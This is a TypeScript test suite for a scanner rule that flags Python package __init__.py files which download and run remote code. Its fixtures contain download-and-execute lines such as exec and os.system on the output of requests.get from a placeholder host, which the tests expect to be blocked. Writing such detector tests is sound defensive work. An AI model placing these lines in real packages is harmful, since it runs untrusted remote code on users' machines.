import { remoteCode } from '../../../src/rules/remote-code.js';
import { wheel } from '../../support/wheel.js';
import { releaseTest } from '../pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const URL = 'https://code.example.invalid/x';

releaseTest(remoteCode, {
  flags: [
    {
      name: 'exec of an answer',
      given: { base: wheel(), head: init(`import requests\nexec(requests.get("${URL}").text)\n`) },
      level: 'block',
    },
    {
      name: 'through a helper function',
      given: {
        base: wheel(),
        head: init(
          `import urllib.request\ndef get():\n    return urllib.request.urlopen("${URL}").read()\nexec(get())\n`,
        ),
      },
      level: 'block',
    },
    {
      name: 'a command line',
      given: { base: wheel(), head: init(`import os, requests\nos.system(requests.get("${URL}").text)\n`) },
      level: 'block',
    },
    {
      name: 'when called',
      given: { base: wheel(), head: init(`import requests\ndef go():\n    exec(requests.get("${URL}").text)\n`) },
      level: 'warn',
    },
  ],
  allows: [
    {
      name: 'an answer that is parsed',
      given: { base: wheel(), head: init(`import json, requests\nDATA = json.loads(requests.get("${URL}").text)\n`) },
    },
    {
      name: 'both in one file, unrelated',
      given: { base: wheel(), head: init(`import requests\nrequests.get("${URL}")\nexec("x = 1")\n`) },
    },
  ],
});
